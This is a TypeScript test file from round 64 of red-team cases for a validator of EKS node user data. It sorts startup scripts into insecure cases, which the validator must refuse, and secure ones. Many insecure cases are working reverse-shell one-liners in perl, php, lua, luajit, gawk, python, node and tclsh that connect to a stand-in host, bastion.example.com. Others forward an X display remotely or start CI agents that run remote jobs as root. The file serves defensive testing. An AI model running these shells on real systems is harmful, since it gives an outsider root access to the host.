// Red-team round 64 on EKS NODE user data (fresh eyes on round 63's node fixes: REMOTE_AGENTS CI/job runners, puppet
// apply code, goBoolFlag, interpreterName, X -display prefixes, optional glued option values).
// Probed: CI/job agents beyond round 63's list (TeamCity, GoCD, HCP Terraform agent, Octopus Tentacle, Bitbucket
// Linux shell runner, CircleCI machine runner, drone-runner-docker), a GitLab runner run under its downloaded binary
// name, a Jenkins agent jar under another name and through a java @argfile, puppet apply -e glued to its code, perl -E,
// php -r glued, DISPLAY in the environment of xterm, tclsh8.6/lua5.4/luajit, awk programs from /dev/fd/0, node -, GTK
// --display, puppet collectors.
// Misses (14 insecure, 0 secure; fixed in round 65, puppet -e glued DECIDED). Insecure accepted: luajit -e (not read as lua), gawk -f /dev/fd/0 and
// -f /proc/self/fd/0 (program from stdin; stdinProgram knows -, /dev/stdin), CI/job agents missing from REMOTE_AGENTS
// (TeamCity agent.sh start, GoCD go-agent, HCP Terraform tfc-agent, Octopus Tentacle, Bitbucket linux-shell runner
// start.sh, CircleCI circleci-runner machine, drone-runner-docker), gitlab-runner under its downloaded name
// gitlab-runner-linux-amd64, a Jenkins agent jar named jenkins-agent.jar, a Jenkins agent through `java @argfile`, and
// `puppet apply -e"CODE"` (code glued to -e).
// Refused as they should be: perl -E / -lE reverse shells, php8.2 -r'..' glued, tclsh8.6 <<EOF, lua5.4 -e'..',
// node - <<EOF, gnome-terminal --display=, xfce4-terminal --display, puppet apply collector and echo'd manifest,
// DISPLAY=host:1 xterm (env and export), nomad agent -client=1, ssm-setup-cli -register=T. All 8 secure neighbours
// accepted.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

/** What a relay or a shared shell is refused as. */
const RELAY = /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server/;
/** What remote management of the node is refused as. */
const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata|cannot read/i;
/** What a java command starting a CI agent (or reading an argument file the pack cannot) is refused as. */
const JAVA_AGENT = /builds its java agent takes/;
const PERL_SHELL = `$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 65): JetBrains TeamCity docs "Build Agent Configuration" (<Agent Home>/conf/buildAgent.properties `serverUrl=`) and
    // "Configuring Build Agent Startup Properties" (`<Agent Home>/bin/agent.sh start` starts the launcher and agent): the
    // agent runs the TeamCity server's build steps (command-line runner) on the host as its user, root here, so whoever
    // can edit a build configuration runs commands as root on the node; REMOTE_AGENTS (userData.ts) has no TeamCity entry
    // (agent.sh, or the `buildAgent` unit). Accepted.
    devNodeCase(
        "TeamCity build agent: /opt/buildAgent/bin/agent.sh start (builds as root)",
        devNodeScript("dev-teamcity-agent-nodes", [
            "mkdir -p /opt/buildAgent/conf",
            "cat > /opt/buildAgent/conf/buildAgent.properties <<'P'",
            "serverUrl=https://teamcity.example.com",
            "name=node1",
            "workDir=../work",
            "tempDir=../temp",
            "systemDir=../system",
            "P",
            "/opt/buildAgent/bin/agent.sh start",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): GoCD docs "Installing GoCD agent on Linux" (go-agent package, GO_SERVER_URL in /usr/share/go-agent/wrapper-config/
    // wrapper-properties.conf or the environment, `go-agent start`): the agent runs the GoCD server's pipeline job tasks (exec
    // tasks) on the host as its user, root here; REMOTE_AGENTS (userData.ts) has no go-agent entry. Accepted.
    devNodeCase(
        "GoCD agent: GO_SERVER_URL=... go-agent start (pipeline jobs as root)",
        devNodeScript("dev-gocd-agent-nodes", [
            "GO_SERVER_URL=https://gocd.example.com/go /usr/share/go-agent/bin/go-agent start",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): HashiCorp docs "HCP Terraform agents: Install and run agents" (the tfc-agent binary with TFC_AGENT_TOKEN polls HCP
    // Terraform and executes plans/applies of the pool's workspaces locally): whoever can queue a run in such a workspace
    // runs Terraform code (local-exec, the external data source, any provider binary) as root on the node, with the node
    // role's credentials; REMOTE_AGENTS (userData.ts) has no tfc-agent entry. Accepted.
    devNodeCase(
        "HCP Terraform agent: tfc-agent (runs workspace plans/applies, local-exec as root)",
        devNodeScript("dev-tfc-agent-nodes", [
            "TFC_AGENT_TOKEN=EXAMPLEONLY TFC_AGENT_NAME=node1 nohup /usr/local/bin/tfc-agent &",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): Octopus Deploy docs "Linux Tentacle" (`Tentacle create-instance`, `Tentacle register-with --server ... --apiKey ...
    // --comms-style TentacleActive` (polling), `Tentacle service --install --start`): the Octopus server's deployments
    // run their scripts on the host as the Tentacle's user, root here; REMOTE_AGENTS (userData.ts) has no Tentacle entry.
    // Accepted.
    devNodeCase(
        "Octopus Tentacle register-with + service --install --start (deployment scripts as root)",
        devNodeScript("dev-octopus-tentacle-nodes", [
            "/opt/octopus/tentacle/Tentacle create-instance --instance Tentacle --config /etc/octopus/Tentacle/tentacle.config",
            "/opt/octopus/tentacle/Tentacle register-with --instance Tentacle --server https://octopus.example.com --apiKey API-EXAMPLEONLY --comms-style TentacleActive --environment prod --role web",
            "/opt/octopus/tentacle/Tentacle service --install --start --instance Tentacle",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): Atlassian docs "Set up runners for Linux Shell" (`./start.sh --accountUuid ... --runnerUuid ... --OAuthClientId ...
    // --OAuthClientSecret ... --runtime linux-shell --workingDirectory ../temp`: pipeline steps run directly on the host
    // as the runner's user, root here); REMOTE_AGENTS (userData.ts) has no entry for the Bitbucket runner. Accepted.
    devNodeCase(
        "Bitbucket Pipelines Linux shell runner: start.sh --runtime linux-shell (steps as root)",
        devNodeScript("dev-bitbucket-shell-runner-nodes", [
            "cd /opt/atlassian-bitbucket-pipelines-runner/bin && nohup ./start.sh --accountUuid '{11111111-2222-3333-4444-555555555555}' --runnerUuid '{11111111-2222-3333-4444-666666666666}' --OAuthClientId EXAMPLE --OAuthClientSecret EXAMPLEONLY --runtime linux-shell --workingDirectory ../temp &",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): CircleCI docs "Machine runner 3.0 installation on Linux" (`circleci-runner machine --config
    // /etc/circleci-runner/circleci-runner-config.yaml` with `api.auth_token`): the runner executes the organisation's
    // jobs on the host as its user (root here, no `runner.` user drop configured); REMOTE_AGENTS (userData.ts) has no
    // circleci-runner (or circleci-launch-agent) entry. Accepted.
    devNodeCase(
        "CircleCI machine runner 3: circleci-runner machine (jobs as root)",
        devNodeScript("dev-circleci-runner-nodes", [
            "mkdir -p /etc/circleci-runner",
            "cat > /etc/circleci-runner/circleci-runner-config.yaml <<'Y'",
            "runner:",
            "  name: node1",
            "  working_directory: /var/lib/circleci-runner/workdir",
            "  cleanup_working_directory: true",
            "api:",
            "  auth_token: EXAMPLEONLY",
            "Y",
            "nohup circleci-runner machine --config /etc/circleci-runner/circleci-runner-config.yaml &",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): Drone docs "Docker Runner" (DRONE_RPC_HOST/DRONE_RPC_SECRET; "Host Volumes" and `privileged: true` steps are
    // allowed for trusted repositories): a trusted repository's pipeline mounts / or runs privileged on the host, root
    // on the node; REMOTE_AGENTS (userData.ts) comments say a container executor is "its configuration's ... unread: fail
    // closed" (gitlab-runner's docker executor is refused), but drone-runner-docker has no entry (only drone-runner-exec).
    // Accepted.
    devNodeCase(
        "drone-runner-docker (trusted repositories' pipelines mount host paths, privileged)",
        devNodeScript("dev-drone-runner-docker-nodes", [
            "DRONE_RPC_PROTO=https DRONE_RPC_HOST=drone.example.com DRONE_RPC_SECRET=EXAMPLEONLY nohup drone-runner-docker &",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): GitLab Runner docs "Install GitLab Runner manually on GNU/Linux" (the binary is downloaded as
    // gitlab-runner-linux-amd64 from gitlab-runner-downloads.s3.amazonaws.com; the program is the same whatever its file
    // name): `register --executor shell` + `run --user root` runs the projects' CI jobs as root; REMOTE_AGENTS matches the
    // program name /^gitlab-(runner|ci-multi-runner)$/ exactly, so the same runner under its downloaded name is accepted.
    // (The identifying subcommands/flags `register --url --token --executor` are the runner's, not the file name.)
    devNodeCase(
        "gitlab-runner-linux-amd64 run (the runner under its downloaded binary name)",
        devNodeScript("dev-gitlab-runner-binary-name-nodes", [
            "curl -fsSL -o /usr/local/bin/gitlab-runner-linux-amd64 https://gitlab-runner-downloads.s3.amazonaws.com/latest/binaries/gitlab-runner-linux-amd64",
            "chmod +x /usr/local/bin/gitlab-runner-linux-amd64",
            "/usr/local/bin/gitlab-runner-linux-amd64 register --non-interactive --url https://gitlab.example.com --token glrt-EXAMPLEONLY --executor shell",
            "nohup /usr/local/bin/gitlab-runner-linux-amd64 run --user root &",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): Jenkins docs "Using Jenkins agents" (`java -jar agent.jar -url <controller> -secret <secret> -name <node> -workDir
    // ...`; the jar is whatever file the operator saved from <controller>/jnlpJars/agent.jar): the controller's builds run
    // on the host as root; REMOTE_AGENTS java matches the jar basename /^(agent|slave|remoting|swarm-client)([-._]..)?\.jar$/
    // only, so jenkins-agent.jar with the agent's own -url/-secret options is accepted.
    devNodeCase(
        "java -jar /opt/jenkins/jenkins-agent.jar -url ... -secret ... (the agent jar under another name)",
        devNodeScript("dev-jenkins-agent-renamed-nodes", [
            "nohup java -jar /opt/jenkins/jenkins-agent.jar -url https://jenkins.example.com/ -secret EXAMPLEONLY -name node1 -workDir /var/lib/jenkins &",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 65): java(1) "java Command-Line Argument Files" (`java @argfile`: the launcher expands the file's words in place, so
    // `-jar /opt/jenkins/agent.jar -url ... -secret ...` in the file is that command line): the Jenkins agent runs the
    // controller's builds as root; REMOTE_AGENTS java reads only the words in user data, not the argument file user data
    // wrote (an unread @file should fail closed). Accepted.
    devNodeCase(
        "java @/etc/jenkins/agent.args (the Jenkins agent's -jar in a java argument file)",
        devNodeScript("dev-jenkins-agent-argfile-nodes", [
            "mkdir -p /etc/jenkins",
            "cat > /etc/jenkins/agent.args <<'A'",
            "-jar /opt/jenkins/agent.jar",
            "-url https://jenkins.example.com/",
            "-secret EXAMPLEONLY",
            "-name node1",
            "-workDir /var/lib/jenkins",
            "A",
            "nohup java @/etc/jenkins/agent.args &",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "puppet apply --execute=\"service { 'puppet': ensure => running }\" (code after --execute=)",
        devNodeScript("dev-puppet-apply-execute-eq-nodes", [
            `/opt/puppetlabs/bin/puppet apply --execute="service { 'puppet': ensure => running, enable => true }"`,
        ]),
        REMOTE,
    ),
    devNodeCase(
        "perl -MIO::Socket::INET -E'...exec /bin/sh' (-E is -e with features)",
        devNodeScript("dev-perl-E-revshell-nodes", [`nohup perl -MIO::Socket::INET -E'${PERL_SHELL}' &`]),
        RELAY,
    ),
    devNodeCase(
        "perl -MIO::Socket::INET -lE'...exec /bin/sh' (-l then -E in a bundle)",
        devNodeScript("dev-perl-lE-revshell-nodes", [`nohup perl -MIO::Socket::INET -lE'${PERL_SHELL}' &`]),
        RELAY,
    ),
    devNodeCase(
        "php8.2 -r'fsockopen + proc_open' (code glued to -r)",
        devNodeScript("dev-php-r-glued-revshell-nodes", [
            `nohup php8.2 -r'$s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);' &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "DISPLAY=bastion:1 xterm -e bash (the display from the environment)",
        devNodeScript("dev-xterm-env-display-nodes", ["DISPLAY=bastion.example.com:1 nohup xterm -e /bin/bash &"]),
        RELAY,
    ),
    devNodeCase(
        "export DISPLAY=bastion:1; xterm -e bash",
        devNodeScript("dev-xterm-export-display-nodes", [
            "export DISPLAY=bastion.example.com:1",
            "nohup xterm -e /bin/bash &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "nomad agent -client=1 (Go bool flag value 1)",
        devNodeScript("dev-nomad-client-1-nodes", ["nohup nomad agent -client=1 -servers=nomad.example.com:4647 &"]),
        REMOTE,
    ),
    devNodeCase(
        "ssm-setup-cli -register=T -activation-code ... (Go bool T)",
        devNodeScript("dev-ssm-setup-cli-T-nodes", [
            "/tmp/ssm/ssm-setup-cli -register=T -activation-code EXAMPLECODE -activation-id 11111111-2222-3333-4444-555555555555 -region us-east-1",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "tclsh8.6 <<EOF (socket + exec sh, a versioned tclsh reading stdin)",
        devNodeScript("dev-tclsh86-stdin-revshell-nodes", [
            "nohup tclsh8.6 <<'TCL' &",
            "set s [socket bastion.example.com 4444]",
            "while {[gets $s c] >= 0} { puts $s [exec /bin/sh -c $c]; flush $s }",
            "TCL",
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua5.4 -e'socket.connect + io.popen' (a versioned lua, code glued)",
        devNodeScript("dev-lua54-glued-revshell-nodes", [
            `nohup lua5.4 -e'local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end' &`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 65): LuaJIT docs "Running LuaJIT" (`luajit [options]... [script [args]...]`, "-e chunk  Execute string 'chunk'", the same
    // options as the standard Lua interpreter; LuaSocket loads into it): the LuaSocket + io.popen shell gives bastion a
    // root shell; round 63's lua reading (interpreterName lua5.4, lua -e glued) does not take luajit as lua. Accepted.
    devNodeCase(
        "luajit -e'socket.connect + io.popen' (LuaJIT takes lua's -e)",
        devNodeScript("dev-luajit-revshell-nodes", [
            `nohup luajit -e'local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end' &`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 65): GNU awk manual "Special File names in gawk" (/dev/stdin and /dev/fd/0 are the same: "/dev/fd/N  The file associated
    // with file descriptor N"; Linux proc(5) /dev/fd -> /proc/self/fd): `gawk -f /dev/fd/0 <<EOF` runs the here-document's
    // /inet/tcp coprocess shell; round 63's stdinProgram reads `-`, `--file=-` and `/dev/stdin` only. Accepted.
    devNodeCase(
        "gawk -f /dev/fd/0 <<EOF (/inet/tcp shell, program file is fd 0)",
        devNodeScript("dev-gawk-devfd0-revshell-nodes", [
            "nohup gawk -f /dev/fd/0 <<'AWK' &",
            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
            "AWK",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 65): proc(5) (`/proc/self/fd/0` is the process's standard input; /dev/stdin is a symlink to it): as /dev/fd/0 above,
    // the program is the here-document's /inet/tcp shell; stdinProgram does not read /proc/self/fd/0. Accepted.
    devNodeCase(
        "gawk -f /proc/self/fd/0 <<EOF (/inet/tcp shell)",
        devNodeScript("dev-gawk-procfd0-revshell-nodes", [
            "nohup gawk -f /proc/self/fd/0 <<'AWK' &",
            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
            "AWK",
        ]),
        RELAY,
    ),
    devNodeCase(
        "luajit-2.1.0-beta3 -O3 -e'socket.connect + io.popen' (LuaJIT's installed name, its -O option first)",
        devNodeScript("dev-luajit-versioned-revshell-nodes", [
            `nohup /usr/local/bin/luajit-2.1.0-beta3 -O3 -e'local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end' &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "luajit -jon - <<EOF (socket.connect + io.popen, `-` is stdin)",
        devNodeScript("dev-luajit-stdin-revshell-nodes", [
            "nohup luajit -jon - <<'LUA' &",
            `local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end`,
            "LUA",
        ]),
        RELAY,
    ),
    devNodeCase(
        "gawk --file=/proc/thread-self/fd/0 <<EOF (/inet/tcp shell)",
        devNodeScript("dev-gawk-threadself-fd0-revshell-nodes", [
            "nohup gawk --file=/proc/thread-self/fd/0 <<'AWK' &",
            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
            "AWK",
        ]),
        RELAY,
    ),
    devNodeCase(
        "gawk -f /dev/fd/3 3<<EOF (/inet/tcp shell, a here-document on descriptor 3)",
        devNodeScript("dev-gawk-devfd3-revshell-nodes", [
            "nohup gawk -f /dev/fd/3 3<<'AWK' &",
            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
            "AWK",
        ]),
        RELAY,
    ),
    devNodeCase(
        "python3 /dev/fd/0 <<EOF (socket + pty.spawn)",
        devNodeScript("dev-python-devfd0-revshell-nodes", [
            "nohup python3 /dev/fd/0 <<'PY' &",
            "import socket, os, pty",
            "s = socket.create_connection(('bastion.example.com', 4444))",
            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
            "pty.spawn('/bin/sh')",
            "PY",
        ]),
        RELAY,
    ),
    devNodeCase(
        "node - <<EOF (net + child_process, `-` is stdin)",
        devNodeScript("dev-node-dash-stdin-revshell-nodes", [
            "nohup node - <<'JS' &",
            "const c = require('net').connect(4444, 'bastion.example.com');",
            "const s = require('child_process').spawn('/bin/sh', []);",
            "c.pipe(s.stdin); s.stdout.pipe(c); s.stderr.pipe(c);",
            "JS",
        ]),
        RELAY,
    ),
    devNodeCase(
        "gnome-terminal --display=bastion:1 -- bash (GTK --display=)",
        devNodeScript("dev-gnome-terminal-display-nodes", [
            "nohup gnome-terminal --display=bastion.example.com:1 -- /bin/bash &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "xfce4-terminal --display bastion:1 -x bash (GTK --display)",
        devNodeScript("dev-xfce4-terminal-display-nodes", [
            "nohup xfce4-terminal --display bastion.example.com:1 -x /bin/bash &",
        ]),
        RELAY,
    ),
    devNodeCase(
        "puppet apply -e \"Service <| title == 'puppet' |> { ensure => running }\" (a collector)",
        devNodeScript("dev-puppet-apply-collector-nodes", [
            `/opt/puppetlabs/bin/puppet apply -e "service { 'puppet': } Service <| title == 'puppet' |> { ensure => running }"`,
        ]),
        REMOTE,
    ),
    devNodeCase(
        "echo \"service {'puppet': ensure => running}\" > /etc/agent.pp; puppet apply /etc/agent.pp",
        devNodeScript("dev-puppet-apply-echo-file-nodes", [
            `echo "service { 'puppet': ensure => running }" > /etc/agent.pp`,
            "/opt/puppetlabs/bin/puppet apply /etc/agent.pp",
        ]),
        REMOTE,
    ),
    // Round 65 neighbours: the same agents under other names and forms.
    devNodeCase(
        "tfc-agent_1.15.0_linux_amd64 (a downloaded tfc-agent under its release name)",
        devNodeScript("dev-tfc-agent-release-name-nodes", [
            "TFC_AGENT_TOKEN=EXAMPLEONLY nohup /usr/local/bin/tfc-agent_1.15.0_linux_amd64 &",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "java @/etc/jenkins/agent.args where user data did not write the file (unread: fail closed)",
        devNodeScript("dev-java-argfile-unwritten-nodes", ["nohup java @/etc/jenkins/agent.args &"]),
        JAVA_AGENT,
    ),
    devNodeCase(
        "java -Xmx1g @/etc/jenkins/agent.args with a comment and a quoted jar (the agent in the argument file)",
        devNodeScript("dev-java-argfile-quoted-nodes", [
            "mkdir -p /etc/jenkins",
            "cat > /etc/jenkins/agent.args <<'A'",
            "# JVM settings, then the agent",
            `-Dfile.encoding="UTF-8"`,
            `-jar "/opt/jenkins/remoting.jar" -url https://jenkins.example.com/`,
            "A",
            "nohup java -Xmx1g @/etc/jenkins/agent.args &",
        ]),
        JAVA_AGENT,
    ),
    devNodeCase(
        "java -jar /opt/bitbucket/runner.jar --runnerUuid ... (the Bitbucket runner's jar)",
        devNodeScript("dev-bitbucket-runner-jar-nodes", [
            "nohup java -jar /opt/bitbucket/runner.jar --accountUuid '{1}' --runnerUuid '{2}' --OAuthClientId X --OAuthClientSecret Y --runtime linux-shell &",
        ]),
        JAVA_AGENT,
    ),
    devNodeCase(
        "systemctl enable --now go-agent (the packaged unit)",
        devNodeScript("dev-ci-agent-units-nodes", ["systemctl enable --now go-agent"]),
        REMOTE,
    ),
    devNodeCase(
        "Tentacle service --install --start alone (the service defaults to root)",
        devNodeScript("dev-tentacle-service-only-nodes", [
            "/opt/octopus/tentacle/Tentacle service --install --start --instance Tentacle",
        ]),
        REMOTE,
    ),
];

const secure: NodeCase[] = [
    // DECIDED (round 65): Puppet does not parse its options with Ruby's OptionParser but with its vendored Trollop
    // (puppetlabs/puppet lib/puppet/util/command_line/puppet_option_parser.rb: "we've removed the OptionParser-based
    // implementation and are only maintaining the ... trollop" one), whose each_arg (lib/puppet/util/command_line/
    // trollop.rb) reads a short option's value only from the next word: `-eX` with no space is the option cluster
    // -e -X (-e left without its value: "option '-e' needs a parameter"), and the word `-eservice { ... }` (spaces in
    // it) matches no option form (/^-(\S+)$/) and is left over as the manifest path, a file that does not exist. The
    // code never runs, so nothing starts the agent; `--execute=CODE` (trollop's /^--(\S+?)=(.*)$/) is read, and refused
    // above.
    devNodeCase(
        "puppet apply -e\"service { 'puppet': ensure => running }\" (glued: Trollop reads no glued value, not run)",
        devNodeScript("dev-puppet-apply-e-glued-nodes", [
            `/opt/puppetlabs/bin/puppet apply -e"service { 'puppet': ensure => running, enable => true }"`,
        ]),
    ),
    devNodeCase(
        "luajit -O3 -e'print(jit.version)' (no socket)",
        devNodeScript("dev-luajit-local-nodes", [`luajit -O3 -e'print(jit.version)' > /tmp/jit`]),
    ),
    devNodeCase(
        "luajit /opt/app/main.lua (the image's own script)",
        devNodeScript("dev-luajit-image-script-nodes", ["nohup luajit /opt/app/main.lua &"]),
    ),
    devNodeCase(
        "gawk -f /dev/fd/0 <<EOF (a local computation)",
        devNodeScript("dev-gawk-devfd0-local-nodes", [
            "gawk -f /dev/fd/0 /etc/os-release > /tmp/os <<'AWK'",
            "/^ID=/ { print $0 }",
            "AWK",
        ]),
    ),
    devNodeCase(
        "python3 /proc/self/fd/0 <<EOF (no socket)",
        devNodeScript("dev-python-procfd0-local-nodes", [
            "python3 /proc/self/fd/0 > /tmp/plat <<'PY'",
            "import platform",
            "print(platform.machine())",
            "PY",
        ]),
    ),
    devNodeCase(
        "puppet apply -e\"service { 'puppet': ensure => stopped }\" (glued, agent off)",
        devNodeScript("dev-puppet-apply-e-glued-stopped-nodes", [
            `/opt/puppetlabs/bin/puppet apply -e"service { 'puppet': ensure => stopped, enable => false }"`,
        ]),
    ),
    devNodeCase(
        "perl -lE'say for 1..3' (no socket)",
        devNodeScript("dev-perl-lE-local-nodes", [`perl -lE'say for 1..3' > /tmp/n`]),
    ),
    devNodeCase(
        "php8.2 -r'echo php_uname();' (no socket)",
        devNodeScript("dev-php-r-local-nodes", [`php8.2 -r'echo php_uname();' > /tmp/u`]),
    ),
    devNodeCase(
        "nomad agent -client=false -server (a server only)",
        devNodeScript("dev-nomad-client-false-nodes", [
            "nohup nomad agent -server -client=false -bootstrap-expect=1 -data-dir=/var/lib/nomad &",
        ]),
    ),
    devNodeCase(
        "java -jar /opt/app/app.jar --server.address=127.0.0.1 (a loopback app, no agent)",
        devNodeScript("dev-java-app-local-nodes", ["nohup java -jar /opt/app/app.jar --server.address=127.0.0.1 &"]),
    ),
    devNodeCase(
        "DISPLAY=:1 xterm -e bash (a local display)",
        devNodeScript("dev-xterm-env-local-display-nodes", ["DISPLAY=:1 nohup xterm -e /bin/bash &"]),
    ),
    // Round 65 neighbours of the CI/job agents: a program that only prints or stops, a java argument file user data
    // wrote for a loopback app, an unrelated start script.
    devNodeCase(
        "java @/etc/app/app.args (a loopback app's argument file user data wrote)",
        devNodeScript("dev-java-argfile-app-local-nodes", [
            "mkdir -p /etc/app",
            "cat > /etc/app/app.args <<'A'",
            "# the app",
            "-Xmx512m",
            "-jar /opt/app/app.jar",
            "A",
            "nohup java @/etc/app/app.args --server.address=127.0.0.1 &",
        ]),
    ),
    devNodeCase(
        "gitlab-runner-linux-amd64 --version (the downloaded binary printing its version)",
        devNodeScript("dev-gitlab-runner-binary-version-nodes", [
            "/usr/local/bin/gitlab-runner-linux-amd64 --version > /tmp/v",
        ]),
    ),
    devNodeCase(
        "tfc-agent -h, go-agent stop, Tentacle service --stop (print or stop only)",
        devNodeScript("dev-ci-agents-print-stop-nodes", [
            "/usr/local/bin/tfc-agent -h > /tmp/h",
            "/usr/share/go-agent/bin/go-agent stop",
            "/opt/octopus/tentacle/Tentacle service --stop --instance Tentacle",
        ]),
    ),
    devNodeCase(
        "/opt/app/bin/start.sh --port 8080 (an app's own start script, no runner options)",
        devNodeScript("dev-app-start-sh-nodes", ["mkdir -p /opt/app/bin", "/opt/app/bin/start.sh --port 8080 || true"]),
    ),
    devNodeCase(
        "buildkite-agent --version",
        devNodeScript("dev-buildkite-version-nodes", ["buildkite-agent --version > /tmp/v"]),
    ),
    devNodeCase(
        "puppet apply -e \"service { ['chronyd', 'amazon-ssm-agent']: ensure => running }\" (other services)",
        devNodeScript("dev-puppet-apply-array-nodes", [
            `/opt/puppetlabs/bin/puppet apply -e "service { ['chronyd', 'amazon-ssm-agent']: ensure => running, enable => true }"`,
        ]),
    ),
];

describeNodeCases("red team 64: node user data (fresh eyes on round 63)", insecure, secure);
